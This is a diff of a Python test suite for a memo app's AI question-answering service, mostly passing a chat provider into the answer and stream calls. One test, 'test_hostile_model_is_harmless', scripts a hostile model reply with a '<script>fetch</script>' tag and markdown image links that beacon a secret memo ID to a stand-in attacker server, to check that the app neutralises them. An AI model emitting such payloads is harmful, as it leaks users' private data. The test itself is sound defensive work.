@@ -57,7 +57,9 @@ async def test_answer_cites_relevant_memos_and_goes_on(
     async with running(settings, migrated_database, talking) as runtime:
         uid = await user(runtime)
         close, closer, _ = await write(runtime, uid, BUDGET, "Budget meeting friday", "Unrelated shopping list")
-        found = await runtime.services.explore.answer(uid, "budget meeting friday", "User: hello")
+        found = await runtime.services.explore.answer(
+            uid, "budget meeting friday", "User: hello", runtime.stores.providers.chat
+        )
     assert found.answer == "On Friday [1]."
     assert [source.memo_id for source in found.sources] == [closer, close]
     assert found.sources[0].relevance_score > found.sources[1].relevance_score
@@ -73,7 +75,7 @@ async def test_memos_that_contain_the_words_fill_the_places_left(
     async with running(settings, migrated_database, talking) as runtime:
         uid = await user(runtime)
         buried, _ = await write(runtime, uid, long, "Something else")
-        found = await runtime.services.explore.answer(uid, "zq17", "")
+        found = await runtime.services.explore.answer(uid, "zq17", "", runtime.stores.providers.chat)
     assert [source.memo_id for source in found.sources] == [buried]
     assert found.sources[0].relevance_score < 0.5
     assert found.sources[0].content == long[:200] + "..."
@@ -92,10 +94,10 @@ async def test_number_of_statements_does_not_grow_with_the_sources(
             made = await write(runtime, uid, *(f"budget {n} meeting" for n in range(more)))
             if made:
                 await runtime.services.memos.update(uid, made[0], MemoBody(content="budget", relation_ids=made))
-            await runtime.services.explore.answer(uid, "budget meeting", "")
+            await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
             listener = _listener(seen)
             event.listen(engine, "before_cursor_execute", listener)
-            found = await runtime.services.explore.answer(uid, "budget meeting", "")
+            found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
             event.remove(engine, "before_cursor_execute", listener)
             counts.append(len([s for s in seen if "outbox_entries" not in s and "leases" not in s]))
             seen.clear()
@@ -115,8 +117,11 @@ async def test_failing_model_is_told_in_the_answer(settings: Make, talking: Stre
     async with running(settings, {}, talking) as runtime:
         uid = await user(runtime)
         await write(runtime, uid, BUDGET)
-        found = await runtime.services.explore.answer(uid, "budget meeting", "")
-        streamed = [item async for item in runtime.services.explore.stream(uid, "budget meeting", "")]
+        found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
+        streamed = [
+            item
+            async for item in runtime.services.explore.stream(uid, "budget meeting", "", runtime.stores.providers.chat)
+        ]
     assert (found.answer, found.sources, found.related_topics) == (NOT_ANSWERED, [], [NOT_ANALYSED])
     assert not isinstance(found.suggested_questions, list)
     assert [type(item) for item in streamed] == [Sources, StreamError]
@@ -131,16 +136,19 @@ async def test_hanging_model_does_not_hold_the_client(
         await write(runtime, uid, BUDGET)
         talking.configure(latency_ms=10_000)
         await runtime.stores.embeddings.cached([])
-        found = await runtime.services.explore.answer(uid, BUDGET, "")
+        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
     assert found.answer in (NOT_ANSWERED, NOT_SEARCHED)
 
 
 async def test_a_search_that_failed_is_told_from_one_that_found_nothing(settings: Make, talking: StreamingStub) -> None:
     async with running(settings, {}, talking) as runtime:
         uid = await user(runtime)
-        nothing = await runtime.services.explore.answer(uid, "budget meeting", "")
-        failed = await runtime.services.explore.answer(uid, "[[stub:400]]", "")
-        streamed = [item async for item in runtime.services.explore.stream(uid, "[[stub:400]]", "")]
+        nothing = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
+        failed = await runtime.services.explore.answer(uid, "[[stub:400]]", "", runtime.stores.providers.chat)
+        streamed = [
+            item
+            async for item in runtime.services.explore.stream(uid, "[[stub:400]]", "", runtime.stores.providers.chat)
+        ]
         with pytest.raises(AimoError, match="Search failed"):
             await runtime.services.search.relevant(uid, "[[stub:400]]", 5)
     assert (nothing.answer, failed.answer, failed.sources) == (NOTHING_FOUND, NOT_SEARCHED, [])
@@ -152,8 +160,10 @@ async def test_thoughts_reach_neither_answers_nor_topics_nor_questions(settings:
     async with running(settings, {}, talking) as runtime:
         uid = await user(runtime)
         await write(runtime, uid, BUDGET)
-        found = await runtime.services.explore.answer(uid, BUDGET, "")
-        streamed = [item async for item in runtime.services.explore.stream(uid, BUDGET, "")]
+        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
+        streamed = [
+            item async for item in runtime.services.explore.stream(uid, BUDGET, "", runtime.stores.providers.chat)
+        ]
     assert found.related_topics == ["Note 1 matters."]
     assert found.suggested_questions == ["Why Friday?", "Who comes?", "How long?"]
     assert "".join(item.text for item in streamed if isinstance(item, Token)) == found.answer == "On Friday [1]."
@@ -166,7 +176,7 @@ async def test_questions_are_read_out_of_a_json_list(settings: Make, talking: St
     async with running(settings, {}, talking) as runtime:
         uid = await user(runtime)
         await write(runtime, uid, BUDGET)
-        found = await runtime.services.explore.answer(uid, BUDGET, "")
+        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
     assert found.suggested_questions == ["Why Friday?", "Who comes?"]
 
 
@@ -175,7 +185,7 @@ async def test_silent_model_is_no_failure(settings: Make, talking: StreamingStub
     async with running(settings, {}, talking) as runtime:
         uid = await user(runtime)
         await write(runtime, uid, BUDGET)
-        found = await runtime.services.explore.answer(uid, "budget meeting", "")
+        found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
     assert found.answer == EMPTY_ANSWER
     assert len(found.sources) == 1
     assert found.suggested_questions == []
@@ -185,9 +195,13 @@ async def test_without_a_model_the_best_passages_answer(settings: Make, migrated
     async with Runtime(settings(**migrated_database, EMBEDDER="local")) as runtime:
         uid = await user(runtime)
         meeting, _ = await write(runtime, uid, BUDGET, "Tomatoes want sun")
-        found = await runtime.services.explore.answer(uid, "When is the budget meeting?", "")
-        chinese = await runtime.services.explore.answer(uid, "预算会议是什么时候？", "")
-        nothing = await runtime.services.explore.answer(await user(runtime, "b"), "budget", "")
+        found = await runtime.services.explore.answer(
+            uid, "When is the budget meeting?", "", runtime.stores.providers.chat
+        )
+        chinese = await runtime.services.explore.answer(uid, "预算会议是什么时候？", "", runtime.stores.providers.chat)
+        nothing = await runtime.services.explore.answer(
+            await user(runtime, "b"), "budget", "", runtime.stores.providers.chat
+        )
     assert found.generated is False
     assert found.sources[0].memo_id == meeting
     assert BUDGET in found.answer
@@ -204,9 +218,14 @@ async def test_hostile_model_is_harmless(settings: Make, migrated_database: dict
         leak = f"{evil.url}/sink/leak"
         reply = f'<script>fetch("{leak}")</script> ![x]({leak}?q=1) ID: {secret} [1] [2] {{"memoId": "{secret}"}}'
         evil.say = lambda system, user: reply
-        found = await runtime.services.explore.answer(alice, "secret budget meeting", "")
+        found = await runtime.services.explore.answer(alice, "secret budget meeting", "", runtime.stores.providers.chat)
         evil.say = lambda system, user: ["look!", f"[x]({leak})", "!", "!"]
-        streamed = [item async for item in runtime.services.explore.stream(alice, "secret budget meeting", "")]
+        streamed = [
+            item
+            async for item in runtime.services.explore.stream(
+                alice, "secret budget meeting", "", runtime.stores.providers.chat
+            )
+        ]
     evil.stop()
     assert [source.memo_id for source in found.sources] == [own]
     assert f"! [x]({leak}?q=1)" in found.answer
@@ -222,6 +241,6 @@ async def test_notes_of_one_user_never_reach_anothers_prompt(settings: Make, tal
         alice, bob = await user(runtime, "alice"), await user(runtime, "bob")
         await write(runtime, bob, "Bob's budget meeting")
         await write(runtime, alice, BUDGET)
-        await runtime.services.explore.answer(alice, "budget meeting", "")
+        await runtime.services.explore.answer(alice, "budget meeting", "", runtime.stores.providers.chat)
     assert talking.asked
     assert not any("Bob" in asked for asked in talking.asked)
